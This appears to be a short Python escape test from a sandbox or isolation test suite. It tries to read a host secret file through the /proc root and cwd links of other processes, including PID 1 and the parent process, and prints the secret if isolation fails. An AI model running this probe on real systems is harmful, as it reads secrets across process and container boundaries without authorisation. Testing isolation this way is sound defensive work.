# Tries: to reach the host's root through the roots of other processes.
# Success: a secret of the host is printed.
import os

import host

for pid in [*range(1, 40), os.getppid(), host.VICTIM, host.PARENT]:
    for link in ("root", "cwd", "cwd/../../../../../.."):
        try:
            print(open(f"/proc/{pid}/{link}{host.SECRET_FILE}").read())
        except OSError:
            pass
